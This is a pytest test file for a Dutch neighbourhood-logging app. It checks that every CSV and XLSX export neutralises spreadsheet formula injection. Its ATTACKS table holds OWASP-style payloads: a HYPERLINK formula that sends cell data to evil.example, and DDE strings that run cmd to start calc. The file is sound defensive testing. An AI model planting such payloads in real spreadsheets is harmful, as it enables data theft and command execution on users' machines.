"""Every CSV buurtlog writes defuses cells a spreadsheet would run as a formula."""

import ast
import csv
import io
import zipfile
from datetime import time
from pathlib import Path
from urllib.parse import quote

import pytest
from flask_babel import to_user_timezone

from buurtlog import csvfile
from buurtlog.models import Initiative, InitiativeSchedule, Place, utcnow
from buurtlog.openreferral import importer, reader, saving, services

# OWASP's examples, one per character that starts a formula.
ATTACKS = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def cells(text: str) -> list[list[str]]:
    """Read CSV text into rows of cells, as a spreadsheet would: a file with a byte-order
    mark is the spreadsheet form, split at semicolons."""
    if text.startswith("\ufeff"):
        return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_defused(rows: list[list[str]], planted: list[str]) -> None:
    """Check no cell starts a formula and each planted value is there, quoted."""
    found = [cell for row in rows for cell in row]
    assert not [c for c in found if c.startswith(csvfile.FORMULA_STARTS)], found
    for value in planted:
        assert "'" + value in found


@pytest.mark.parametrize("start", list(ATTACKS))
def test_a_formula_cell_gets_a_quote_and_comes_back(start):
    """Quote a cell starting with =, +, -, @, tab or return; read it back as it was."""
    value = ATTACKS[start]
    assert csvfile.defuse(value) == "'" + value
    assert csvfile.restore(csvfile.defuse(value)) == value
    out = io.StringIO()
    csvfile.writer(out).writerow([value, "gewoon", 3, None, "'s-Hertogenbosch"])
    assert cells(out.getvalue()) == [["'" + value, "gewoon", "3", "", "'s-Hertogenbosch"]]
    assert csvfile.restore("'s-Hertogenbosch") == "'s-Hertogenbosch"


@pytest.fixture
def wijk(make_area, make_place, make_team, make_user, make_theme, make_entry):
    """Make a wijk whose entries carry an attack in every free-text column, and its period."""
    from buurtlog.wijk import stats

    buurt = make_area("buurt")
    team = make_team(areas=[buurt.parent])
    coordinator = make_user("coordinator", team=team)
    theme = make_theme()
    for start, value in ATTACKS.items():
        make_entry(
            author=coordinator,
            area=buurt,
            themes=[theme],
            days_ago=1,
            note=value,
            underlying_question=f"{value} ({ord(start)})",
        )
    today = to_user_timezone(utcnow()).date()
    period = stats.period_for(
        "custom", today - today.resolution * 6, "Europe/Amsterdam", last=today
    )
    return {"wijk": buurt.parent, "coordinator": coordinator, "period": period}


def wijk_entries(client, wijk) -> tuple[str, list[str]]:
    """Download the wijk's entries with their text; return it and the values planted."""
    period = wijk["period"]
    response = client.get(
        f"/wijk/{wijk['wijk'].code}/export.csv?period=custom"
        f"&start={period.first}&end={period.last}&text=y"
    )
    planted = [*ATTACKS.values(), *(f"{v} ({ord(s)})" for s, v in ATTACKS.items())]
    return response.get_data(as_text=True), planted


def wijk_counts(client, wijk) -> tuple[str, list[str]]:
    """Download the wijk's counts, for a wijk whose code an admin's import made an attack."""
    wijk["wijk"].code = "=SUM(A1:A9)"  # no slash: it is part of the address
    from buurtlog.extensions import db

    db.session.commit()
    period = wijk["period"]
    response = client.get(
        f"/wijk/{quote(wijk['wijk'].code, safe='')}/export.csv?format=counts"
        f"&period=custom"
        f"&start={period.first}&end={period.last}"
    )
    return response.get_data(as_text=True), ["=SUM(A1:A9)"]


def hsds_files(client, wijk) -> tuple[str, list[str]]:
    """Download the Open Referral CSV zip of initiatives with an attack in every text field."""
    from buurtlog.extensions import db

    place = Place(
        name=ATTACKS["@"],
        area=db.session.get(type(wijk["wijk"]), wijk["wijk"].id),
        kind="community_centre",
    )
    for contact in ("+31 20 123 4567", ATTACKS["="]):
        db.session.add(
            Initiative(
                name=f"{ATTACKS['=']} {contact[-3:]}",
                offer=ATTACKS["+"],
                audience=ATTACKS["-"],
                schedule_text="@" + ATTACKS["-"],
                organisation=f"{ATTACKS['@']} {contact[-3:]}",
                contact=contact,
                carried_by="organisation",
                status="active",
                place=place,
                areas=[wijk["wijk"]],
                schedules=[InitiativeSchedule(weekday=1, opens_at=time(10))],
            )
        )
    db.session.commit()
    response = client.get("/openreferral/export/csv")
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        text = "".join(
            archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".csv")
        )
    return text, [
        ATTACKS["+"],
        ATTACKS["-"],
        "@" + ATTACKS["-"],
        "+31 20 123 4567",
        ATTACKS["="] + " 567",
        ATTACKS["@"] + " 567",
        ATTACKS["@"],
    ]


@pytest.mark.parametrize("download", [wijk_entries, wijk_counts, hsds_files])
def test_every_csv_export_defuses_formula_cells(client, auth, wijk, download):
    """Quote every planted attack in the wijk exports and the Open Referral files."""
    auth.login_as(wijk["coordinator"])
    text, planted = download(client, wijk)
    assert_defused(cells(text), planted)


def test_open_referral_import_reads_the_quoted_cells_back(client, auth, wijk, db):
    """Import the defused HSDS files back unchanged: the phone number keeps its plus."""
    auth.login_as(wijk["coordinator"])
    hsds_files(client, wijk)
    data, _count = services.export("csv")
    before = {
        i.hsds_id: (i.name, i.offer, i.audience, i.contact, i.organisation, i.schedule_text)
        for i in db.session.query(Initiative)
    }
    source = reader.read_zip(data)
    phones = [row.values["number"] for row in source.tables["phone"]]
    assert phones == ["+31 20 123 4567"]
    result = saving.apply(importer.check(source))
    assert not result.errors and result.unchanged == 2
    db.session.expire_all()
    assert {
        i.hsds_id: (i.name, i.offer, i.audience, i.contact, i.organisation, i.schedule_text)
        for i in db.session.query(Initiative)
    } == before


def test_every_csv_writer_is_the_shared_one():
    """Find no csv.writer or csv.DictWriter in buurtlog outside buurtlog/csvfile.py."""
    package = Path(csvfile.__file__).parent
    makers = []
    for path in package.rglob("*.py"):
        if path.name == "csvfile.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and getattr(node.value, "id", "") == "csv":
                names = [node.attr]
            elif isinstance(node, ast.ImportFrom) and node.module == "csv":
                names = [alias.name for alias in node.names]
            else:
                continue
            if {"writer", "DictWriter"} & set(names):
                makers.append(f"{path.relative_to(package)}:{node.lineno}")
    assert makers == []


def test_the_xlsx_exports_hold_text_cells_only(client, auth, wijk):
    """The XLSX downloads keep every planted attack as a text cell, quoted as in the CSV:
    no formula cell, none that becomes one when a coordinator types into it."""
    import openpyxl

    auth.login_as(wijk["coordinator"])
    _text, planted = wijk_entries(client, wijk)
    period = wijk["period"]
    response = client.get(
        f"/wijk/{wijk['wijk'].code}/export.xlsx?period=custom"
        f"&start={period.first}&end={period.last}&text=y"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).worksheets[0]
    found = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    # XML reads a carriage return as a line feed: "\r=1+1" comes back as "\n=1+1", still quoted
    assert_defused(
        [[c.value for c in found if isinstance(c.value, str)]],
        [value.replace("\r", "\n") for value in planted],
    )


def test_a_wijk_code_excel_forbids_in_a_sheet_name_still_downloads(client, auth, wijk):
    """A code an admin's import made odd ("=SUM(A1:A9)") names the XLSX sheet without the
    characters Excel forbids there, and the cell holding it is defused."""
    import openpyxl

    auth.login_as(wijk["coordinator"])
    wijk_counts(client, wijk)  # gives the wijk that code
    period = wijk["period"]
    response = client.get(
        f"/wijk/{quote(wijk['wijk'].code, safe='')}/export.xlsx?format=counts"
        f"&period=custom&start={period.first}&end={period.last}"
    )
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).worksheets[0]
    assert ":" not in sheet.title
    assert "'=SUM(A1:A9)" in [c.value for row in sheet.iter_rows() for c in row]
